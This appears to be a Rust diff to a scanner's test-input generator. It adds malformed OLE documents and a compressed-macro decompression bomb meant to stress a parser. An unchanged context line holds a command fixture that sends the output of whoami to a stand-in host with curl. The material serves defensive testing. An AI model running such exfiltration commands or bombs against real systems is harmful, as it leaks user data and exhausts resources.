@@ -430,6 +430,15 @@ fn containers(out: &mut Inputs) {
     out.add(Partly, "loop.msi", ole(0));
     out.add(Partly, "far.msi", ole(0xfd));
     out.add(Partly, "short.msi", &ole(0)[..64]);
+    // Packed macros: chunks of six bytes that unpack to 4,096, beginnings without end, a directory whose records lie.
+    let chunk = b"\x03\xb0\x02a\xff\x0f".as_slice();
+    out.add(Partly, "macro-bomb.bin", [b"\x01\x08\xb0\0Attribut", &chunk.repeat(300_000)[..]].concat());
+    out.add(Either, "macro-beginnings.bin", b"\xff\x01\x08\xb0\0Attribut".repeat(100_000));
+    let records = b"\x31\0\x04\0\0\0\xff\xff\xff\xff\x1a\0\xff\xff\xff\xff".as_slice();
+    let lying = crate::macros::document(&[("dir", &crate::macros::packed(records)), ("M", &[1, 0xff, 0xff])]);
+    out.add(Either, "records-far.doc", lying);
+    let named = crate::macros::directory(&[("M", 0), ("M", u32::MAX), ("N", 1)]);
+    out.add(Partly, "sources-far.doc", crate::macros::document(&[("dir", &named), ("M", &[1, 9, 0xb0, 0xff, 0xff])]));
     let program = |length: u32, at: u32, size: u32| {
         [
             b"\x7fELF\x02\x01\x01".to_vec(),
@@ -520,6 +529,7 @@ fn texts(out: &mut Inputs) {
     out.add(Either, "data-urls.txt", "data:text/html".repeat(n));
     out.add(Either, "passwords.txt", "password for the ".repeat(n / 2));
     out.add(Either, "ascii85.txt", "<~".repeat(2 * n));
+    out.add(Either, "base85.txt", "!#$%&()*+-;<=>?@^_`{|}~0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ".repeat(n));
     out.add(Either, "one-line.js", "x".repeat(30 << 20));
     out.add(Either, "blanks.js", " ".repeat(20 << 20));
     out.add(Either, "commands.sh", "curl https://a.test/$(whoami) | ".repeat(n / 10));
